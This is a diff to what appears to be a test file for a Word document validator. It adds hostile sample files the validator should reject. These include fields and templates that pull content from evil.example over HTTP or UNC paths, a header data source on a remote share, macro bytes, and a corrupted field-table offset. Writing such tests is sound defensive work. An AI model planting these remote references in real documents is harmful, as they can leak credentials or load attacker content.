@@ -35,7 +35,7 @@ const fields: Hostile[] = [
       'starts a program',
     ),
   ),
-  ...[36, 55, 56, 67, 68].map((kind) =>
+  ...[36, 40, 55, 56, 67, 68].map((kind) =>
     hostile(
       `with a field of kind ${kind} from elsewhere`,
       wordFile({ text: field('INCLURE "http://evil.example/x"'), kinds: { 3: kind } }),
@@ -64,6 +64,11 @@ const paths: Hostile[] = [
       hostile(`with a template at ${template}`, wordFile({ text: 'CV', template }), 'on another computer'),
     ),
   hostile(
+    'of Word 6 with a template on a server',
+    oldWordFile('CV', { template: '\\\\evil.example\\x.dot' }),
+    'on another computer',
+  ),
+  hostile(
     'with a template on the internet',
     wordFile({ text: 'CV', template: 'http://evil.example/x.dot' }),
     'on another computer',
@@ -71,6 +76,11 @@ const paths: Hostile[] = [
   hostile(
     'with data from elsewhere',
     wordFile({ text: 'CV', dataSource: '\\\\evil.example\\x' }),
+    'on another computer',
+  ),
+  hostile(
+    'with heads of data from elsewhere',
+    wordFile({ text: 'CV', headerSource: '\\\\evil.example\\x' }),
     'on another computer',
   ),
   hostile(
@@ -144,7 +154,7 @@ const objects: Hostile[] = [
     'starts a program',
   ),
   hostile('with rights that must be asked for', wordFile({ text: 'CV' }, { '\tDRMContent': 'x' }), 'password'),
-  hostile('of Word 6 with macros', oldWordFile('CV', Buffer.from([0xff, 1, 1, 0, 0, 0, 0x40])), 'macros'),
+  hostile('of Word 6 with macros', oldWordFile('CV', { commands: Buffer.from([0xff, 1, 1, 0, 0, 0, 0x40]) }), 'macros'),
 ];
 
 const broken: Hostile[] = [
@@ -156,6 +166,11 @@ const broken: Hostile[] = [
   hostile(
     'whose text has no pieces',
     patchedWord((main) => main.writeUInt32LE(0, 422)),
+    'damaged',
+  ),
+  hostile(
+    'whose fields are not where it says',
+    patchedWord((main) => main.writeUInt32LE(0x7fff, 286)),
     'damaged',
   ),
   hostile('whose pieces are none', patchedTable(3), 'damaged'),
